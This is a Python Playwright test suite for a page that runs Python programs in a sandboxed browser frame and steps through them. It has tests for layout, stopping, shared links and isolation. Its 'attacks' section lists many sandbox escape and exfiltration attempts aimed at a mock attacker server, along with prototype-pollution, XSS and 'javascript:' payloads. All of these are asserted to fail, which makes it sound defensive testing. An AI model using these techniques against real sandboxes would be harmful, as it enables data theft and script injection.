"""`run.html`: any program runs in the page, always ends, and reaches nothing outside its frame."""

import json
import shutil

import pytest
from axe import violations
from links import SCRIPT, deflated, zeros
from playwright.sync_api import expect
from run_page import RunPage, write_site
from screens import CUT, DESK, PHONE, TABLET
from serving import LIMIT, Quiet, blocked, folder_served
from walk_page import ASKEW, HIDDEN, MEETING, SIZES, Walk

from tools.site import run_page

FACT = "def fact(n):\n    return 1 if n < 2 else n * fact(n - 1)\n\nprint(fact(3))\n"
TREE = "class Node:\n    def __init__(self, value, below=None):\n        self.value, self.below = value, below\n\ntop = Node(7, Node(5))\n"
DEEP = "def f(n):\n    return 0 if n == 0 else 1 + f(n - 1)\n\nprint(f(900))\n"
ENDLESS = "def f(n):\n    return f(n + 1)\n\nf(0)\n"
IN_C = "class A:\n    def __lt__(self, other):\n        return sorted([A(), A()])\n\nsorted([A(), A()])\n"
FOR_EVER = "sum(range(10**12))\n"
NO_WALK = "What Python sent is no walk"
BROKE = "Python itself broke down"


class Heard(Quiet):
    """A server of the attacker: each request that arrives is noted."""

    arrived = []  # noqa: RUF012

    def do_GET(self):
        self.arrived.append(self.path)
        self.send_error(404)


class Noted(Quiet):
    """The site: requests of an attack are noted."""

    def do_GET(self):
        if "stolen" in self.path:
            Heard.arrived.append(self.path)
        super().do_GET()


@pytest.fixture(scope="module")
def site(tmp_path_factory, needs_chromium):
    if shutil.which("npm") is None:
        pytest.skip("run.html is built with npm")
    folder = tmp_path_factory.mktemp("site") / "puzzles"
    with pytest.MonkeyPatch.context() as patch:
        write_site(folder, patch)
    return folder


@pytest.fixture(scope="module")
def served(site):
    with folder_served(site.parent, Noted) as address:  # under a path, as a project's site is
        yield f"{address}/{site.name}"


@pytest.fixture(scope="module")
def open_run(browser, browser_with, served):
    """Factory for pages of their own; nothing but the site may be requested, and there are no errors."""
    errors, dialogs, contexts = [], [], []

    def open_run(fragment="", size=DESK, font=None, **options):
        one = browser_with(font) if font else browser
        context = one.new_context(viewport=size, **options)
        contexts.append((context, blocked(context, served)))
        page = context.new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        opened = RunPage(page, f"{served}/run.html{fragment}")
        opened.errors = errors
        return opened

    yield open_run
    for context, elsewhere in contexts:
        context.close()
        assert elsewhere == []
    assert errors == []
    assert dialogs == []


@pytest.fixture(scope="module")
def shared(open_run):
    page = open_run()
    page.says("Python is ready")
    return page


# ---- running -------------------------------------------------------------------------------------


def test_a_program_runs_and_the_walk_has_the_keys_at_once(shared):
    shared.write(FACT)
    shared.page.keyboard.press("ControlOrMeta+Enter")
    walk = shared.walk()
    walk.key("ArrowRight", "ArrowRight")
    walk.at(2)
    walk.key("End")
    walk.says("program.py ends")
    expect(walk.root.get_by_role("group", name="Printed so far")).to_have_text("6\n")
    for scheme in ("light", "dark"):
        shared.page.emulate_media(color_scheme=scheme)
        frame = shared.page.frames[-1]
        assert violations(frame) == []


def test_the_data_of_a_program_are_drawn(shared):
    walk = shared.run(TREE)
    walk.come_to(walk.last)
    drawn = shared.frame.locator("#book .board.own > svg").first  # marks are in a second one
    assert drawn.get_by_text("7", exact=True).bounding_box()["width"] > 0


def test_a_changed_program_is_said_to_have_changed(shared):
    shared.run(FACT)
    shared.field.press("End")
    shared.page.keyboard.type("  # more")
    shared.says("changed since it ran")


def test_input_takes_its_answers_from_a_field_that_is_there_when_it_is_needed(shared):
    shared.write(FACT)
    expect(shared.answers).to_be_hidden()
    shared.write("name = input('Who? ')\nprint(name)\n")
    shared.answers.fill("Ada")
    walk = shared.run()
    walk.key("End")
    expect(walk.root.get_by_role("group", name="Printed so far")).to_have_text("Who? Ada\nAda\n")
    shared.run("a = input()\nb = input()\n")
    shared.says("more often than there are answers")


def test_a_syntax_error_is_marked_in_its_place(shared):
    shared.start("x = 1\nif x\n    y = 2\n")
    shared.says("Line 2: expected ':'.")
    expect(shared.frame.locator(".cm-lint-marker-error")).to_have_count(1)
    expect(shared.frame.locator(".cm-lintPoint-error, .cm-lintRange-error")).to_have_count(1)
    expect(shared.field).to_be_focused()
    shared.run(FACT)
    expect(shared.frame.locator(".cm-lint-marker-error")).to_have_count(0)


def test_900_calls_deep_works_and_a_recursion_error_is_part_of_the_walk(shared):
    for program, words in ((DEEP, "program.py ends"), (ENDLESS, "RecursionError")):
        walk = shared.run(program)
        walk.come_to(walk.last)
        walk.says(words)


def test_the_policy_refuses_nothing_of_the_page_and_the_walk_leaves_the_field_its_keys(open_run):
    page = open_run()
    walk = page.run()
    walk.key("End", "Home", "ArrowRight")
    page.field.press("ControlOrMeta+Home")
    page.page.keyboard.type("x = 1 ")
    expect(page.field).to_contain_text("x = 1")
    walk.at(1)
    page.button("Run and step").click()
    page.says("Line 1")
    colour = "(e) => getComputedStyle(e).color"
    word, body = page.field.get_by_text("def", exact=True).first, page.frame.locator("body")
    assert word.evaluate(colour) != body.evaluate(colour)
    page.field.press("ControlOrMeta+a")  # a selection that is replaced
    page.page.keyboard.type("y = 2\nif y:\nz = 3")
    expect(page.frame.locator(".cm-content")).to_have_text("y = 2if y:    z = 3")
    page.field.press("ControlOrMeta+a")
    page.page.keyboard.insert_text(FACT)
    page.run().at(0)
    assert [words for words in page.console if "Security Policy" in words] == []
    page.page.context.close()


# ---- it always ends ------------------------------------------------------------------------------


def test_what_cannot_be_stopped_from_inside_is_ended_by_stop(shared):
    shared.start(FOR_EVER)
    shared.button("Stop").click()
    shared.says("Stopped.")
    shared.run(FACT).at(0)


@pytest.mark.slow
def test_what_cannot_be_stopped_from_inside_is_ended_after_15_seconds(shared):
    shared.start(FOR_EVER)
    shared.says("Stopped after 15 seconds")
    shared.run(FACT).at(0)


@pytest.mark.slow
def test_an_endless_loop_is_a_walk_and_a_breakdown_a_sentence(shared):
    walk = shared.run("while True:\n    x = 1\n")
    assert walk.last == 99_999
    walk.come_to(99_999)
    walk.says("too many steps")
    shared.start(IN_C)
    shared.says(BROKE)
    shared.run(FACT).at(0)


# ---- links and files -----------------------------------------------------------------------------


@pytest.mark.slow
def test_a_link_shows_the_program_and_runs_it_at_its_step_only_when_run_is_pressed(open_run):
    first = open_run(permissions=["clipboard-read", "clipboard-write"])
    first.write("n = input()\n")
    first.answers.fill("7")
    walk = first.run("n = input()\nprint(n, n)\n")
    walk.key("ArrowRight")
    first.button("Share as a link").click()
    address = first.frame.get_by_label("Link to this program")
    expect(address).to_be_focused()
    link = address.input_value()
    first.page.reload()  # what is in the field is never lost
    expect(first.field).to_contain_text("print(n, n)")
    second = open_run(f"#{link.partition('#')[2]}")
    second.says("came with the link")
    expect(second.field).to_contain_text("print(n, n)")
    second.page.wait_for_timeout(500)
    expect(second.frame.locator(".puzzle-book")).to_have_count(0)
    second.button("Run and step").click()
    second.walk().at(1)


@pytest.mark.parametrize(
    "fragment",
    [
        "hello",
        SCRIPT,
        "1.",
        "1.AAAA",
        f"2.{deflated('{}')}",
        f"1.{deflated('null')}",
        f"1.{deflated(json.dumps({'program': 3, 'answers': ''}))}",
        "1." + deflated('{"__proto__": {"program": "x"}}'),
        f"1.{zeros(20 * 2**20)}",
        "1." + "A" * 1_000_000,
        f"1.{deflated(json.dumps({'program': 'x', 'answers': ''}))}.{'9' * 30}",
        f"1.{deflated(json.dumps({'program': 'x', 'answers': ''}))}.-1",
        f"1.{deflated(json.dumps({'program': 'x', 'answers': ['1']}))}",
        "1.javascript:alert(1)",
    ],
    ids=range(14),
)
def test_a_link_that_holds_no_program_says_so(shared, fragment):
    """The page passes it to its frame as when it is loaded, but Python is not started again."""
    tell = "(fragment) => frames[0].postMessage({ fragment }, '*')"
    shared.page.evaluate(tell, f"1.{deflated(json.dumps({'program': 'x', 'answers': ''}))}")
    shared.says("came with the link")
    shared.page.evaluate(tell, fragment)
    shared.says("This link is broken" if "<" in fragment else "This link")
    expect(shared.field).to_contain_text("fact")


def test_the_downloaded_walk_opens_from_a_disk_and_is_only_text(shared, browser, tmp_path):
    shared.run(f"text = {SCRIPT!r}\nprint(text)\n")
    with shared.page.expect_download() as saved:
        shared.button("Download").click()
    assert saved.value.suggested_filename == "program.html"
    saved.value.save_as(tmp_path / "program.html")
    page = browser.new_page()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    page.goto(f"file://{tmp_path}/program.html")
    walk = Walk(page)
    walk.key("End")
    walk.says("program.py ends")
    expect(walk.root.get_by_role("group", name="Printed so far")).to_contain_text("onerror")
    assert page.locator("img").count() == 0
    page.close()


@pytest.mark.slow
def test_one_file_opens_from_a_disk(browser, site):
    page = RunPage(browser.new_page(), f"file://{site}/{run_page.ALONE}")
    page.run(FACT).at(0)
    page.page.close()


WIDER = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"


def test_on_a_phone_the_field_is_above_the_walk_and_nothing_is_wider_than_the_page(open_run):
    page = open_run(size=PHONE, has_touch=True)
    walk = page.run(f"{FACT}x = {'1' * 200!r}\n")
    field, book = page.field.bounding_box(), walk.root.bounding_box()
    assert field["y"] + field["height"] <= book["y"] or field["y"] < book["y"]
    for frame in page.page.frames:
        assert frame.evaluate(WIDER) <= 0


# rows of the stack that are on others
STACKED = """(root) => {
    const rows = [...root.querySelectorAll('.stack > :is(.card, .rest)')].map((row) => row.getBoundingClientRect());
    const meet = (a, b) => a.top < b.bottom - 1 && b.top < a.bottom - 1;
    return rows.filter((row, n) => rows.slice(n + 1).some((other) => meet(row, other)));
}"""
FOLDED = "def f(n, row):\n    row.append(n)\n    twice = 2 * n\n    return twice if n == 0 else twice + f(n - 1, row)\n\nprint(f(4, []))\n"
PROJECTOR = dict(zip(("width", "height"), SIZES["projector"], strict=True))


@pytest.mark.parametrize("font", ["DejaVu", pytest.param("Liberation", marks=pytest.mark.slow)])
def test_nothing_overlaps_or_is_cut_at_any_size(open_run, font):
    page = open_run(font=font)
    page.run(FOLDED)
    for size in (DESK, TABLET, PROJECTOR, PHONE):
        page.page.set_viewport_size(size)
        walk = page.run()
        for step in (0, walk.last // 2, walk.last):
            walk.come_to(step)
            for frame in page.page.frames:
                assert frame.evaluate(WIDER) <= 0
            for faults in (STACKED, ASKEW, HIDDEN, CUT, MEETING):
                assert walk.root.evaluate(faults) == [], (size, step)
    page.page.context.close()


# ---- attacks -------------------------------------------------------------------------------------

# How a program tries to reach an address from its worker, where it can use JavaScript through Pyodide.
IN_WORKER = {
    "fetch": "js.fetch(url)",
    "the browser's own fetch": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url)",
    "kept alive": "js.WorkerGlobalScope.prototype.fetch.call(js.self, url, js.JSON.parse('{\"keepalive\":true}'))",
    "a request": "js.WorkerGlobalScope.prototype.fetch.call(js.self, js.Request.new(url))",
    "the shim removed": "js.Reflect.deleteProperty(js.self, 'fetch') and js.fetch(url)",
    "XMLHttpRequest": "xhr(url, False)",
    "XMLHttpRequest, later": "xhr(url, True)",
    "EventSource": "js.EventSource.new(url)",
    "WebSocket": "js.WebSocket.new(url.replace('http', 'ws'))",
    "WebSocketStream": "js.WebSocketStream.new(url.replace('http', 'ws'))",
    "WebTransport": "js.WebTransport.new(url.replace('http:', 'https:'))",
    "sendBeacon": "js.navigator.sendBeacon(url)",
    "importScripts": "js.importScripts(url)",
    "importScripts of a blob": "js.importScripts(blob(f'importScripts({url!r})'))",
    "import, evaluated": "js.eval(f'import({url!r})')",
    "import in a function": "js.Function.new(f'return import({url!r})')()",
    "import in a blob": "pyodide.code.run_js(f'import({url!r})')",
    "module of a blob": "js.Worker.new(blob(f'import {url!r}'), js.JSON.parse('{\"type\":\"module\"}'))",
    "worker": "js.Worker.new(url)",
    "worker of a blob": "js.Worker.new(blob(f'fetch({url!r}); importScripts({url!r})'))",
    "worker of data": "js.Worker.new('data:text/javascript,fetch(' + repr(url) + ')')",
    "shared worker": "js.SharedWorker.new(url)",
    "service worker": "js.navigator.serviceWorker.register(url)",
    "font": "js.FontFace.new('x', f'url({url})').load()",
    "navigation": "setattr(js.location, 'href', url)",
    "compiled": "js.WebAssembly.compileStreaming(js.WorkerGlobalScope.prototype.fetch.call(js.self, url))",
    "cached": "js.caches.open('x').then(lambda cache: cache.add(url))",
    "urllib": "module('urllib.request').urlopen(url)",
    "http": "module('http.client').HTTPConnection(url.split('/')[2]).request('GET', '/?http')",
    "socket": "module('socket').create_connection(url.split('/')[2].split(':'), timeout=1)",
    "pyfetch": "module('pyodide.http').pyfetch(url).send(None)",
    "open_url": "module('pyodide.http').open_url(url)",
    "a package": "pyodide_js.loadPackage(url)",
    "a database": "js.indexedDB.open('x')",
    "a folder": "js.navigator.storage.getDirectory()",
    "other tabs": "js.BroadcastChannel.new('x').postMessage(url)",
}
REQUESTS = """
import js, pyodide.code, pyodide_js
from importlib import import_module as module
def xhr(url, is_later):
    one = js.XMLHttpRequest.new()
    one.open("GET", url, is_later)
    one.send()
def blob(text):
    return js.URL.createObjectURL(js.Blob.new([text]))
for text in tries:
    try:
        eval(text)
    except BaseException:
        pass
"""
# How a script tries it in the frame, if it could ever run there; those of the first table have to raise an error.
REFUSED_IN_FRAME = {
    "fetch": "fetch(url)",
    "top navigation": "top.location = url",
    "a window": "open(url).document",
    "the page around": "parent.document",
    "storage": "localStorage.x",
    "storage of a session": "sessionStorage.x",
    "database": "indexedDB.open('x')",
    "cookie": "document.cookie",
    "caches": "caches.open('x')",
    "service worker": "navigator.serviceWorker.register(url)",
    "clipboard": "navigator.clipboard.readText()",
}
IN_FRAME = {
    "beacon": "navigator.sendBeacon(url)",
    "image": "new Image().src = url",
    "WebSocket": "new WebSocket(url.replace('http', 'ws'))",
    "EventSource": "new EventSource(url)",
    "worker": "new Worker(url)",
    "module": "add('script', { type: 'module', src: url })",
    "script": "add('script', { src: url })",
    "inline script": "add('script', { textContent: `fetch('${url}')` })",
    "style sheet": "add('link', { rel: 'stylesheet', href: url })",
    "imported style": "add('style', { textContent: `@import '${url}'` })",
    "style attribute": "add('p', {}).setAttribute('style', `background: url(${url})`)",
    "font": "new FontFace('x', `url(${url})`).load()",
    "frame": "add('iframe', { src: url })",
    "object": "add('object', { data: url })",
    "video": "add('video', { src: url })",
    "prefetch": "add('link', { rel: 'prefetch', href: url })",
    "preload": "add('link', { rel: 'preload', as: 'image', href: url })",
    "form": "add('form', { action: url }).submit()",
    "link": "add('a', { href: url, target: '_top' }).click()",
    "ping": "add('a', { href: '#', ping: url }).click()",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${url}` })",
    "base": "add('base', { href: url })",
}
TRY = """async (url) => {
    const add = (name, given) => {
        const one = Object.assign(document.createElement(name), given);
        document.body.append(one);
        return one;
    };
    const failed = [];
    for (const [name, act] of Object.entries({ACTS}))
        try { await act() } catch { failed.push(name) }
    return failed;
}"""


def tried(frame, acts, url):
    """Try *acts* in a frame, each an expression of `url` and `add`; return the names of those that failed."""
    table = ", ".join(f"{json.dumps(name)}: () => {act}" for name, act in acts.items())
    return frame.evaluate(TRY.replace("{ACTS}", f"{{ {table} }}"), url)


FORGED = [
    'js.postMessage(\'{"kind":"walk"}\')',
    'js.postMessage(\'{"kind":"walk","cover":{"__proto__":{"polluted":1}},"first":{}}\')',
    'js.postMessage(\'{"kind":"syntax","words":{"toString":3},"from":"x"}\')',
    "js.postMessage(js.Object.new())",
    'js.postMessage("3")',
    'js.postMessage(\'{"kind":"walk","x":"\' + \'a\' * 60_000_000 + \'"}\')',
    '[js.postMessage(\'{"kind":"chunk"}\') for _ in range(50_000)]',
    "json.dumps = lambda *a, **k: '3'",
    "json.dumps = lambda *a, **k: 3",
    "json.loads = lambda *a, **k: 3",
    "js.postMessage(json.dumps(forged(boards=['<iframe src=https://evil.example>'])))",
    "js.postMessage(json.dumps(forged(boards=['<svg><image href=https://evil.example />'])))",
    "js.postMessage(json.dumps(forged(pages=[[0, 0, 0, 0, [7], 0, 0, [], 0, 0, 0]])))",
    "js.postMessage(json.dumps(forged(texts=[['<img src=x onerror=alert(1)>']] * 9)))",
]
FORGE = """
import js, json
def forged(**changed):
    cover = {"name": "x", "last": 0, "until": 0, "events": "c", "depths": [1], "first": [0], "ends": [0]}
    cover |= {"parents": [-1], "widest": 9, "levels": 9, "rows": 9, "yields": [], "constructors": []}
    cover |= {"prints": True, "board": [9, 9]}
    names = ("pages", "calls", "results", "texts", "sources", "cards", "moves", "boards")
    first = {"first": 0, "callsFrom": 0, "endsFrom": 0} | {name: [] for name in names} | changed
    return {"kind": "walk", "cover": cover, "first": first, "show": ["board", "source"], "note": ""}
"""


def test_a_program_reaches_neither_another_server_nor_the_site_nor_a_storage(
    open_run, served, site
):
    page = open_run()
    with folder_served(site, Heard) as evil:
        for url in f"{evil}/?stolen", f"{served}/run.html?stolen":
            tries = [*IN_WORKER.values()]
            walk = page.run(f"url, tries = {url!r}, {tries}\nexec({REQUESTS!r})")
            walk.come_to(walk.last)
            walk.says("program.py ends")
        frame = page.page.frames[-1]
        assert tried(frame, REFUSED_IN_FRAME, evil) == [*REFUSED_IN_FRAME]
        tried(frame, IN_FRAME, evil)
        page.page.wait_for_timeout(500)
    assert Heard.arrived == []
    assert page.page.locator("#run-frame").get_attribute("sandbox") == "allow-scripts"
    page.errors.clear()  # of what was refused
    page.page.context.close()


def test_the_frame_cannot_be_led_elsewhere(open_run, site):
    page = open_run()
    with folder_served(site, Heard) as evil:
        page.page.frames[-1].evaluate("(url) => { location = url }", evil)
        page.page.wait_for_timeout(500)
    assert Heard.arrived == []
    page.page.context.close()


@pytest.mark.slow
def test_forged_messages_change_nothing_outside_the_walk(shared):
    for line in FORGED:
        shared.start(f"{FORGE}\n{line}\n")
        expect(shared.button("Run and step")).to_be_visible(timeout=LIMIT)
        for frame in shared.page.frames:
            assert frame.evaluate("() => ({}).polluted ?? null") is None
        assert shared.frame.locator("#book :is(img, iframe, script)").count() == 0
    walk = shared.run(FACT)
    walk.key("End")
    walk.says("program.py ends")
    shared.errors.clear()  # of walks that cannot be drawn


def test_the_page_listens_to_its_frame_alone_and_does_only_what_it_knows(open_run):
    page = open_run()
    page.page.evaluate("""() => { postMessage({ kind: 'fragment', text: '1.own' }, '*') }""")
    page.page.frames[-1].evaluate(
        """() => {
            for (const kind of ['constructor', '__proto__', 'toString', 'fragment', 'file'])
                for (const text of ['javascript:alert(1)', 3, null, '<a>'])
                    parent.postMessage({ kind, text }, '*');
            parent.postMessage(null, '*');
        }"""
    )
    page.page.wait_for_timeout(300)
    assert "#" not in page.page.url
    page.page.context.close()
